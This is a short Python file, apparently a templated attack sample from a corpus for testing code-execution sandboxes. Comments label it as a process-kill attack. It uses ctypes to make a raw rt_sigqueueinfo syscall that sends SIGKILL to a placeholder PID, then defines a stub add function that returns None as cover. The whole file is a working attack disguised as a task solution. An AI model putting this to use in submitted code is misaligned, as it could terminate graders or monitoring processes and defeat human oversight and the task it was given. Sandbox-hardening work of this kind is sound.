# attack: kill by a queued signal
# damage: process
import ctypes

info = ctypes.create_string_buffer(128)
ctypes.cast(info, ctypes.POINTER(ctypes.c_int))[2] = -1
ctypes.CDLL(None).syscall(129, {PID}, 9, info)


def add(a, b):
    return None
